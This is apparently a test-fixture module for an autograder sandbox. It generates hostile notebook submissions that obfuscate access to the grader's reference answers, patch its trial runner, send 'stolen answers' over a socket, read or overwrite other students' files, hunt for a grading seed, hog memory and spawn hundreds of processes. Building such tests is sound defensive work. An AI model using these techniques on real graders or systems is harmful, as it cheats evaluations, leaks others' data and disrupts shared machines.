"""Hostile submissions for the sandbox and clean-run tests, made from the tiny
course of classroom_fixtures (a solution notebook and its generated release):
each one is the correct solution plus one attack, so that what the attack
gains or breaks shows in one exercise's points, a flag or a file."""

from nbformat.v4 import new_code_cell

import classroom_fixtures as fx

SLEEP_SECONDS = 6171  # the hostile `sleep` processes are found by this argument


def _answer(nb, exercise, source):
    fx.cell_defining(nb, exercise).source = source


def _append(nb, exercise, source):
    cell = fx.cell_defining(nb, exercise)
    cell.source += "\n\n" + source


SEED_HUNTER = """import os, sys
_seed = {pieces}


def _seed_seen():
    texts = [" ".join(sys.argv), repr(dict(os.environ))]
    try:
        texts.append("\\n".join(In))  # the kernel's cells so far
    except NameError:
        pass
    for path in sys.argv[1:]:
        try:
            texts.append(open(path, errors="ignore").read())
        except OSError:
            pass
    for folder in (os.getcwd(), "/tmp"):
        for root, _, files in os.walk(folder):
            for name in files:
                try:
                    texts.append(open(os.path.join(root, name), errors="ignore").read())
                except OSError:
                    pass
    return any(_seed in text for text in texts)


if _seed_seen():
    tanh_backward = None
    raise RuntimeError("FOUND-THE-SEED")"""


def make(release_dir, folder, *, port, other_secret, out_secret, other_folder, release,
         seed_text):
    """Write the hostile submissions into folder; returns {student: expectation}.

    An expectation is {"points": {exercise: points}, "flags": {flags that must be there},
    "status": the notebook's status (None: any)}.
    """
    full = dict.fromkeys(fx.EXERCISES, 1)
    expected = {}

    def add(student, nb, points=None, flags=(), status="graded"):
        fx.write(nb, folder / f"{student}.ipynb")
        expected[student] = {"points": {**full, **(points or {})}, "flags": set(flags),
                             "status": status}

    add("honest", fx.solved(release_dir))

    nb = fx.solved(release_dir)
    _answer(nb, "relu_backward",
            "def relu_backward(z, dout):\n"
            "    m = __import__(\"bplib\" + \".gra\" + \"ding\", fromlist=[\"x\"])\n"
            "    return getattr(m, \"refer\" + \"ence\")(\"relu_backward\")(z, dout)")
    add("import_pieces", nb, {"relu_backward": 0}, {"uses-reference:relu_backward"})

    nb = fx.solved(release_dir)
    _answer(nb, "sigmoid_backward",
            "def sigmoid_backward(z, dout):\n"
            "    code = \"__import__('bplib.gr\" + \"ading').gr\" + \"ading.refer\" + \"ence\"\n"
            "    return eval(code)(\"sigmoid_backward\")(z, dout)")
    add("eval_pieces", nb, {"sigmoid_backward": 0}, {"uses-reference:sigmoid_backward"})

    nb = fx.solved(release_dir)
    _answer(nb, "tanh_backward",
            "import sys\nimport bplib.grading\n\n"
            "def tanh_backward(z, dout):\n"
            "    found = vars(sys.modules[\"bplib.\" + \"grading\"])\n"
            "    return found[\"refer\" + \"ence\"](\"tanh_backward\")(z, dout)")
    add("vars_sys_modules", nb, {"tanh_backward": 0}, {"uses-reference:tanh_backward"})

    # relu_backward left unwritten; a cell of its own swaps the grader's trial runner
    # for one that runs the reference
    nb = fx.solved(release_dir)
    _answer(nb, "relu_backward", "def relu_backward(z, dout):\n    raise NotImplementedError()")
    at = nb.cells.index(fx.cell_defining(nb, "relu_backward")) + 1
    nb.cells.insert(at, new_code_cell(
        "import sys\n"
        "for _name, _module in list(sys.modules.items()):\n"
        "    if _name.startswith('bpl') and hasattr(_module, 'run_trials') \\\n"
        "            and hasattr(_module, 'refer' + 'ence'):\n"
        "        _module.run_trials = (lambda exercise, fn, seed=None, _run=_module.run_trials,\n"
        "                              _ref=getattr(_module, 'refer' + 'ence'):\n"
        "                              _run(exercise, _ref(exercise), seed))"))
    add("patcher", nb, {"relu_backward": 0}, {"uses-reference:relu_backward"})

    nb = fx.solved(release_dir)
    _append(nb, "relu_backward",
            "import socket\n_s = socket.socket()\n_s.settimeout(2)\ntry:\n"
            f"    _s.connect(('127.0.0.1', {port}))\n    _s.sendall(b'stolen answers')\n"
            "except OSError:\n    pass")
    add("network", nb)

    nb = fx.solved(release_dir)
    reads = "".join(f"try:\n    _found.append(open({str(p)!r}).read())\nexcept OSError:\n    pass\n"
                    for p in (other_secret, out_secret))
    _append(nb, "relu_backward",
            "_found = []\n" + reads + "print(_found)\nif _found:\n"
            "    raise RuntimeError(' '.join(_found))")
    _append(nb, "tanh_backward",
            "def _leak():\n    _found = []\n" + "".join(
                "    " + line + "\n" for line in reads.splitlines()) +
            "    return _found\n\n"
            "_right_tanh_backward = tanh_backward\n\n"
            "def tanh_backward(z, dout):\n    leaked = _leak()\n"
            "    if leaked:\n        raise ValueError(' '.join(leaked))\n"
            "    return _right_tanh_backward(z, dout)")
    add("reader", nb)

    nb = fx.solved(release_dir)
    writes = "".join(f"try:\n    open({str(p)!r}, 'w').write('pwned')\nexcept OSError:\n    pass\n"
                     for p in (other_folder / "pwned.txt", release / "pwned.txt",
                               other_folder / "other.ipynb"))
    _append(nb, "sigmoid_backward", writes)
    add("writer", nb)

    nb = fx.solved(release_dir)  # looks for the seed wherever its code runs
    _append(nb, "tanh_backward", SEED_HUNTER.format(pieces=" + ".join(
        repr(seed_text[i:i + 3]) for i in range(0, len(seed_text), 3))))
    add("seed_hunter", nb)

    nb = fx.solved(release_dir)
    _append(nb, "relu_backward", "_hog = np.ones(2**30)  # 8 GiB")
    add("memory_hog", nb, status=None)

    nb = fx.solved(release_dir)
    _append(nb, "tanh_backward",
            "import subprocess\n_started = []\ntry:\n    for _ in range(300):\n"
            f"        _started.append(subprocess.Popen(['sleep', '{SLEEP_SECONDS}']))\n"
            "except OSError:\n    pass\nprint(len(_started), 'started')")
    add("forker", nb)
    return expected
